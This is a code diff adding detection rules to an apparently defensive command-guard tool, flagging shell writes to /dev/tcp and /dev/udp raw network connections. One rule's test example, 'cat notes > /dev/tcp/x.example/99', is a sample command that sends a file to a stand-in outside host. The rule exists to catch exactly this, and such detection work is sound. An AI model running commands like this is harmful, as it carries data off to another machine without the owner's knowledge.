@@ -9,6 +9,7 @@ from chimera_guard.risk import SecurityRisk
 from chimera_guard.rules.registry import rule
 
 HIGH, MEDIUM = SecurityRisk.HIGH, SecurityRisk.MEDIUM
+RAW = ("/dev/tcp/", "/dev/udp/")
 SHELLS = frozenset({"exec", "shell", "escape"})
 
 
@@ -44,6 +45,39 @@ def network_sends_to_system(effect: Effect, context: Context) -> bool:
     return scope_of(effect.target._replace(text=place), NOTHING_KNOWN, None) in (  # type: ignore[union-attr]
         "root", "system", "startup", "credential", "device", "home",
     ) and place.strip("/~") != ""  # fmt: skip
+
+
+@rule(
+    "network-raw",
+    HIGH,
+    on="write append",
+    reason="writes to {target}, a raw connection to another machine",
+    why="This is how data is carried off, and how a shell is handed over, where no tool for it is at hand.",
+    instead="use a tool that says what it sends and to whom, over an encrypted connection",
+    match=["cat notes > /dev/tcp/x.example/99"],
+    not_match=["echo > /dev/tcp/localhost/5432", "echo > /dev/null"],
+)
+def network_raw(effect: Effect, context: Context) -> bool:
+    text = _begin(effect)
+    return text.startswith(RAW) and text.split("/")[3:4] not in (["localhost"], ["127.0.0.1"], ["::1"], ["0.0.0.0"])
+
+
+@rule(
+    "network-connects-raw",
+    MEDIUM,
+    on="read write append",
+    reason="opens a raw connection to {target}",
+    match=["echo > /dev/tcp/localhost/5432"],
+)
+def network_connects_raw(effect: Effect, context: Context) -> bool:
+    return _begin(effect).startswith(RAW)
+
+
+def _begin(effect: Effect) -> str:
+    target = effect.target
+    if effect.scope != "remote" or target is None:
+        return ""
+    return target.text if target.text is not None else target.prefix
 
 
 @rule(
